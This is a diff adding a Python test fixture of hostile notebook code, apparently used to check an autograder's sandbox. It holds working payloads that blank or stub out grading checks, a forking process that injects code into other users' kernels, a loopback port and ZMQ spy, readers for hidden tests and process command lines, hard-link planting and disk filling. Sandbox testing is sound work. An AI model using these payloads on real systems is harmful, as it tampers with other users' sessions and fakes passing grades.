@@ -1,0 +1,180 @@
+"""Code a hostile student puts in a notebook: one attack per function, as cell source.
+
+Each attack is what was seen working against the grader before its jail (issue 12) or a close
+variant: processes that outlive the kernel, spying on other kernels' channels, reading the
+hidden tests, planting links, leaving files, and tampering with the test machinery. Attacks
+print ``read:``, ``connected:``, ``captured:`` or ``wrote:`` lines when they succeed, so a test
+can find in the graded notebook what got through. Names of planted files contain ``PWNED``.
+"""
+from __future__ import annotations
+
+PWNED = "pwned"
+
+# the tricks that make test cells pass without a right answer: they blank, gut or silence them
+TAMPER = {
+    "transformer": '''
+def _blank(lines):
+    return ["pass\\n"] if any("check_" in line for line in lines) else lines
+get_ipython().input_transformers_cleanup.append(_blank)
+''',
+    "ast-transformer": '''
+import ast as _ast
+class _Gut(_ast.NodeTransformer):
+    def visit_Module(self, node):
+        return _ast.Module(body=[_ast.Pass()], type_ignores=[]) if "check_" in _ast.unparse(node) else node
+get_ipython().ast_transformers.append(_Gut())
+''',
+    "noop-checks": '''
+import contextlib as _cl, course.checks as _c
+def _ok(*args, **kwargs):
+    return None
+for _n in ("check_close", "check_equal", "check_shape", "check_raises"):
+    getattr(_c, _n).__code__ = _ok.__code__
+    setattr(_c, _n, _ok)
+_c.checking = lambda *args: _cl.nullcontext()
+''',
+    "module-swap": '''
+import sys as _sys, types as _types, contextlib as _cl
+_fake = _types.ModuleType("course.checks")
+for _n in ("check_close", "check_equal", "check_shape", "check_raises"):
+    setattr(_fake, _n, lambda *args, **kwargs: None)
+_fake.checking = lambda *args: _cl.nullcontext()
+_fake.library_twin_disabled = lambda *args: _cl.nullcontext()
+_fake.CheckFailed = AssertionError
+_sys.modules["course.checks"] = _fake
+''',
+    "silenced-errors": '''
+_ip = get_ipython()
+_ip.set_custom_exc((Exception,), lambda self, etype, value, tb, tb_offset=None: None)
+type(_ip).showtraceback = lambda self, *args, **kwargs: None
+_ip._showtraceback = lambda *args, **kwargs: None
+''',
+    "thread-repatch": '''
+import threading as _th, time as _time
+def _blank(lines):
+    return ["pass\\n"] if any("check_" in line for line in lines) else lines
+def _keep():
+    ip = get_ipython()
+    while True:
+        if _blank not in ip.input_transformers_cleanup:
+            ip.input_transformers_cleanup.append(_blank)
+        _time.sleep(0.0005)
+_th.Thread(target=_keep, daemon=True).start()
+''',
+}
+
+
+def survivor(student: str) -> str:
+    """A process that leaves the kernel, changes pid every few milliseconds, and executes code
+    in any other kernel whose connection file it can read: every cell of that kernel raises."""
+    return f'''
+import os as _os, sys as _sys, time as _time, glob as _glob, json as _json
+def _survive():
+    mine = {{_os.path.realpath(a) for a in _sys.argv if a.endswith(".json")}}
+    end = _time.time() + 60
+    while _time.time() < end:
+        if _os.fork():
+            _os._exit(0)  # the parent leaves: the child carries on under a new pid
+        for path in (_glob.glob("/tmp/autograder-*/**/*.json", recursive=True)
+                     + _glob.glob("/ipc/*.json") + _glob.glob(_os.path.expanduser("~/**/*.json"), recursive=True)):
+            try:
+                if _os.path.realpath(path) in mine or "shell_port" not in open(path).read():
+                    continue
+                from jupyter_client import BlockingKernelClient
+                kc = BlockingKernelClient(connection_file=path)
+                kc.load_connection_file()
+                kc.start_channels()
+                kc.execute("get_ipython().input_transformers_cleanup.append("
+                           "lambda lines: ['raise RuntimeError(\\"{PWNED} by {student}\\")\\\\n'])")
+                open(f"/tmp/{PWNED}-{student}-hit", "a").write(path + "\\n")
+            except Exception:
+                pass
+        _time.sleep(0.005)
+if _os.fork() == 0:
+    _os.setsid()
+    try:
+        _survive()
+    finally:
+        _os._exit(0)
+'''
+
+
+SPY_START = '''
+import glob as _glob, socket as _socket, threading as _th, time as _time
+import zmq as _zmq
+_captured, _open_ports = [], []
+def _spy():
+    for port in range(1, 65536):  # every service on this machine's loopback
+        with _socket.socket() as s:
+            s.settimeout(0.05)
+            if s.connect_ex(("127.0.0.1", port)) == 0:
+                _open_ports.append(port)
+    sub = _zmq.Context.instance().socket(_zmq.SUB)
+    sub.setsockopt(_zmq.SUBSCRIBE, b"")
+    for port in _open_ports:
+        sub.connect(f"tcp://127.0.0.1:{port}")
+    for path in _glob.glob("/tmp/autograder-*/**/kernel-*", recursive=True) + _glob.glob("/ipc/kernel-*"):
+        sub.connect(f"ipc://{path}")  # other kernels' unix sockets (and our own)
+    end = _time.time() + 30
+    while _time.time() < end:
+        if sub.poll(100):
+            _captured.append(b"".join(sub.recv_multipart()))
+_th.Thread(target=_spy, daemon=True).start()
+'''
+SPY_REPORT = '''
+_time.sleep(6)
+for _port in _open_ports:
+    print("connected:", _port)
+_theirs = [m for m in _captured if b"BEGIN HIDDEN" in m or b"execute_input" in m]
+print("captured:", len(_theirs), "messages of other kernels;", b"".join(_theirs)[:3000])
+'''
+
+
+def reader(targets: list[str]) -> str:
+    """Reads the hidden tests, gradebooks, grades, logs and the grader's command line."""
+    return f'''
+import glob as _glob, os as _os
+for _t in {targets!r} + _glob.glob("/proc/*/cmdline"):
+    for _p in _glob.glob(_t) or [_t]:
+        try:
+            _data = open(_p, "rb").read()
+            if _p.startswith("/proc/") and b"autograder" not in _data:
+                continue
+            print("read:", _p, len(_data), "bytes")
+        except Exception as _e:
+            print("blocked:", _p, type(_e).__name__)
+'''
+
+
+def planter(student: str, notebook: str) -> str:
+    """A hard link where the grader writes the graded notebook, and extra files beside it."""
+    return f'''
+import os as _os
+for _base in ("/tmp", _os.path.expanduser("~"), "."):
+    try:
+        _target = _os.path.join(_base, "{PWNED}-{student}-link-target")
+        open(_target, "w").write("")
+        _os.link(_target, "{notebook}.ipynb")
+        print("wrote: a hard link to", _target)
+        break
+    except Exception as _e:
+        print("blocked:", _base, type(_e).__name__)
+for _name in ("{PWNED}-{student}-extra.ipynb", "{PWNED}-{student}-extra.py"):
+    open(_name, "w").write("{{}}")
+'''
+
+
+def litter(student: str, mb: int) -> str:
+    """Files in every writable shared place: /tmp, /dev/shm, /var/tmp, /run/lock, HOME."""
+    return f'''
+import os as _os
+for _dir in ("/tmp", "/dev/shm", "/var/tmp", "/run/lock", "/dev/mqueue", _os.path.expanduser("~")):
+    _path = _os.path.join(_dir, "{PWNED}-{student}")
+    try:
+        with open(_path, "wb") as _fh:
+            for _ in range({mb}):
+                _fh.write(b"x" * 2**20)
+        print("wrote:", _path, "{mb} MB")
+    except Exception as _e:
+        print("blocked:", _path, type(_e).__name__)
+'''
